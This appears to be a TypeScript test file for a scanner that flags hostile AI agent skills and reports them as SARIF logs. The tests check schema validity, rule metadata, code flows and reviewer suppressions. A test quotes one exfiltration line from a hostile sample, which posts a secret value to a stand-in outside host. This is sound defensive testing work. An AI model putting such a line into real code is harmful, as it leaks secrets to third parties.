import { readFileSync } from 'node:fs';
import { Ajv } from 'ajv';
import * as formats from 'ajv-formats';
import { describe, expect, it } from 'vitest';
import { marksFrom, noMarks } from '../../../../scanner/reports/marks.ts';
import { notDecided } from '../../../../scanner/reports/report-text.ts';
import { placesIn, SarifRun } from '../../../../scanner/reports/sarif/sarif.ts';
import { rules } from '../../../../scanner/rules.ts';
import type { SourceFile } from '../../../../skills-index/skill/bundle.ts';
import { filesOf, hostile, plainSkillMd, reportOf, sender, unfinished } from '../scanned-skills.ts';

const schema = JSON.parse(
  readFileSync(new URL('../../../fixtures/sarif-schema-2.1.0.json', import.meta.url), 'utf8'),
);
// The schema has a pattern that the u flag refuses.
const ajv = new Ajv({ strict: false, allErrors: true, unicodeRegExp: false });
formats.default.default(ajv);
const validate = ajv.compile(schema);

// biome-ignore lint/suspicious/noExplicitAny: JSON that the schema has checked
type Log = any;

async function logOf(
  skills: Readonly<Record<string, readonly SourceFile[]>>,
  marks = noMarks,
): Promise<Log> {
  const run = new SarifRun({ rules, version: '1.2.3', ruleSet: 'sha256:0', marks });
  for (const [path, files] of Object.entries(skills)) run.add(await reportOf(files, path), files);
  return JSON.parse(JSON.stringify(run.end()));
}

describe('SARIF', () => {
  it.each([
    ['a clean skill', { '.': filesOf({ 'SKILL.md': plainSkillMd }) }],
    ['an attack', { 'skills/a': sender }],
    [
      'several skills, one not analysed whole',
      { 'skills/a': sender, 'skills/b': unfinished, '../c': hostile },
    ],
    ['no skill at all', {}],
  ])('of %s holds to the schema of OASIS', async (_, skills) => {
    const log = await logOf(skills);
    expect(validate(log) ? [] : validate.errors).toEqual([]);
  });

  it('would not pass the schema with a fault in it', async () => {
    const log = await logOf({ a: sender });
    log.runs[0].results[0].level = 'critical';
    expect(validate(log)).toBe(false);
  });

  it('describes every rule with its weaknesses', async () => {
    const [run] = (await logOf({})).runs;
    expect(run.tool.driver.rules.map((rule: Log) => rule.id)).toEqual(rules.map(({ id }) => id));
    for (const rule of run.tool.driver.rules) {
      expect(rule.help.markdown).toContain(rule.id);
    }
    const sent = run.tool.driver.rules.find((rule: Log) => rule.id === 'flow/secret-to-network');
    expect(sent).toMatchObject({
      name: 'FlowSecretToNetwork',
      defaultConfiguration: { level: 'error' },
      properties: {
        precision: 'very-high',
        'security-severity': '9.5',
        tags: expect.arrayContaining(['CWE-200', 'LLM02:2025']),
      },
    });
  });

  it('gives a flow as a code flow over its files, with places that hold the text they name', async () => {
    const [run] = (await logOf({ 'skills/a': sender })).runs;
    const result = run.results.find((one: Log) => one.ruleId === 'flow/secret-to-network');
    expect(run.tool.driver.rules[result.ruleIndex].id).toBe('flow/secret-to-network');
    const steps = result.codeFlows[0].threadFlows[0].locations;
    expect(steps[0].location.physicalLocation.artifactLocation.uri).toBe('skills/a/read.py');
    expect(steps.at(-1).location.physicalLocation.artifactLocation.uri).toBe('skills/a/send.py');
    const { region, artifactLocation } = result.locations[0].physicalLocation;
    const bytes = sender.find(({ path }) => path === 'send.py')?.bytes ?? new Uint8Array();
    const code = 'requests.post("https://other.acme.example/in", data=value)';
    expect(region).toMatchObject({ startLine: 5, startColumn: 5, snippet: { text: code } });
    expect(
      Buffer.from(bytes)
        .subarray(region.byteOffset, region.byteOffset + region.byteLength)
        .toString(),
    ).toBe(code);
    expect(run.artifacts[artifactLocation.index].location.uri).toBe('skills/a/send.py');
  });

  it('says that it failed where a file was not analysed, and which', async () => {
    const [run] = (await logOf({ a: unfinished })).runs;
    expect(run.invocations[0].executionSuccessful).toBe(false);
    expect(run.invocations[0].toolExecutionNotifications).toMatchObject([
      { descriptor: { id: 'not-analysed' }, message: { text: expect.stringContaining('main.go') } },
      { descriptor: { id: 'not-decided' }, level: 'note' },
    ]);
    expect((await logOf({ a: sender })).runs[0].invocations[0].executionSuccessful).toBe(true);
  });

  it('says once what no scan decides, whatever it found', async () => {
    for (const skills of [
      { a: filesOf({ 'SKILL.md': plainSkillMd }) },
      { a: sender, b: unfinished },
    ])
      expect(JSON.stringify(await logOf(skills)).split(notDecided)).toHaveLength(2);
  });

  it('makes nothing of a skill a link, a placeholder or another address', async () => {
    const [run] = (await logOf({ 'x y': hostile })).runs;
    const texts = JSON.stringify(run.results.map((one: Log) => one.message.text));
    expect(texts).not.toMatch(/(?<!\\)\[[^\]]*(?<!\\)\]\(/);
    for (const { location } of run.artifacts) {
      expect(location.uri).toMatch(/^x%20y\/[A-Za-z0-9%._~/-]+$/);
      expect(() => decodeURIComponent(location.uri)).not.toThrow();
    }
  });

  it('marks what a reviewer accepted and what is new', async () => {
    const report = await reportOf(sender, 'a');
    const [first, second] = report.findings;
    if (first === undefined || second === undefined) throw new Error('the sample has two findings');
    const accepted = {
      fingerprint: first.fingerprint,
      skill: report.name,
      reason: 'the host is ours, see the ticket about it',
      by: 'Rita',
      expires: '2027-01-31',
      severity: first.severity,
    };
    const marks = marksFrom([accepted], [{ path: 'a', findings: [first] }], '2026-11-20');
    const log = await logOf({ a: sender }, marks);
    expect(validate(log)).toBe(true);
    const [one, two] = log.runs[0].results;
    expect(one).toMatchObject({
      baselineState: 'unchanged',
      suppressions: [{ kind: 'external', status: 'accepted', justification: accepted.reason }],
    });
    expect(two).toMatchObject({ baselineState: 'new' });
    expect(two.suppressions).toBeUndefined();
  });

  it('is the same each time', async () => {
    expect(await logOf({ a: sender, b: unfinished })).toEqual(
      await logOf({ a: [...sender].reverse(), b: unfinished }),
    );
  });
});

describe('places in a file', () => {
  it.each([
    ['UTF-8', Buffer.from('é = 1\n\u{1f600} x\n')],
    ['UTF-8 with a mark', Buffer.from('\ufeffé = 1\n\u{1f600} x\n')],
    ['UTF-16', Buffer.from('\ufeffé = 1\n\u{1f600} x\n', 'utf16le')],
  ])('are offsets in characters and in bytes of %s', (charset, bytes) => {
    const places = placesIn(bytes);
    const { chars, bytes: at = -1 } = places?.at(2, 4) ?? { chars: -1 };
    expect(places?.text.slice(chars)).toBe('x\n');
    expect(bytes.subarray(at).toString(charset === 'UTF-16' ? 'utf16le' : 'utf8')).toBe('x\n');
  });

  it('have no certain bytes in what is not valid UTF-8, and none at all in what is no text', () => {
    expect(placesIn(Buffer.from([0x61, 0xff, 0x0a, 0x62]))?.at(2, 1)).toEqual({
      chars: 3,
      bytes: undefined,
    });
    expect(placesIn(Buffer.from([0, 1, 2]))).toBeUndefined();
  });
});
